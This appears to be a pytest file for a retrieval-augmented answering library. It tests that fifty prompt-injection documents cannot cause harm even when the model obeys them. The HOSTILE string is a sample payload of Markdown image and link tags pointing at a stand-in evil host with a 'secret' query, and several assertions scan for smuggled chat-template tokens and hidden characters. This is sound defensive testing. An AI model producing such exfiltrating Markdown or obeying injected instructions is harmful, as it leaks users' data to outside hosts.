"""Fifty hostile documents against a model that obeys them: nothing comes of it."""

from __future__ import annotations

import re
import socket

import pytest
from markdown_it import MarkdownIt

from ragkit import Settings
from ragkit.answers.prompt import RULES
from tests.answers.server import chat_serving
from tests.injection.documents import DOCUMENTS, EVIL

QUESTION = "What does the note on evil example say?"
HOSTILE = f"![x](https://{EVIL}/p.png?q=secret) <img src=//{EVIL}> [go](https://{EVIL}) [77] "


def obedient(messages):
    """What a model that follows its documents says: hostile Markdown, and the document again."""
    document = messages[-1]["content"].partition("<sources>")[2]
    text = f"{HOSTILE}{document} [1]"
    return [text[start : start + 3] for start in range(0, len(text), 3)]


@pytest.fixture
def outside(monkeypatch):
    """The addresses that anything connected to."""
    connected = []
    real = socket.socket.connect

    def connect(self, address):
        connected.append(address)
        return real(self, address)

    monkeypatch.setattr(socket.socket, "connect", connect)
    return connected


def rendered(text):
    """The images, links and tags that a chat client makes of a text, bare addresses too."""
    parser = MarkdownIt("gfm-like", {"html": True, "linkify": False})
    flat = [t for token in parser.parse(text) for t in (token, *(token.children or ()))]
    kinds = ("image", "link_open", "html_inline", "html_block")
    bare = re.findall(r"(?i)(?:https?|ftp)://|www\.", text)
    return [token for token in flat if token.type in kinds] + bare


@pytest.fixture
def asked(open_collection, tmp_path):
    """Answers a question from one document, with the settings given."""

    def ask(text, question=QUESTION, **settings):
        folder = tmp_path / "documents"
        folder.mkdir()
        (folder / "note.txt").write_text(f"A note on {EVIL}, an example.\n\n{text}\n")
        collection = open_collection(Settings(passage_tokens=60, overlap=0.0, **settings))
        collection.index(folder)
        return collection.ask(question)

    return ask


def test_there_are_fifty_and_each_is_another():
    assert len({text for _, text in DOCUMENTS}) == len({name for name, _ in DOCUMENTS}) == 50


@pytest.mark.parametrize("text", [text for _, text in DOCUMENTS], ids=[n for n, _ in DOCUMENTS])
def test_an_obedient_model_can_do_no_harm(asked, outside, text):
    with chat_serving(obedient) as server:
        answer = asked(text, llm_base_url=server.url, llm_model="obedient")
        (sent,) = server.asked
        assert {address[1] for address in outside} == {server.server_port}
    system, user = (message["content"] for message in sent["messages"])
    assert system == RULES
    inside = user.removeprefix("<sources>\n").rpartition("\n</sources>\n\nQuestion: ")
    assert inside[2] == QUESTION
    tags = re.findall(r"<[^\s].*", inside[0])
    assert all(
        re.fullmatch(r'<source n="\d" place="[^"<>]*" about="[^"<>]*">|</source>', t) for t in tags
    )
    assert not re.search(r"<\||\[/?INST|[\u200b\u202e\U000e0000-\U000e007f\x1b]", user)
    assert answer.model == "obedient"
    assert rendered(answer.text) == []
    assert {citation.n for citation in answer.citations} <= {hit.rank for hit in answer.hits}
    assert "[77]" not in answer.text
    assert "[99]" not in answer.text


@pytest.mark.parametrize("text", [text for _, text in DOCUMENTS], ids=[n for n, _ in DOCUMENTS])
def test_nor_can_the_documents_own_sentences(asked, outside, text):
    answer = asked(text, question=text)  # as near as can be: the hostile sentences are said
    assert (answer.model, answer.answerable) == ("extractive", True)
    assert outside == []
    assert rendered(answer.text) == []
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e\u200b]", answer.text)


def test_what_is_asked_of_a_client_here_would_be_found():
    assert len(rendered(HOSTILE)) >= 4
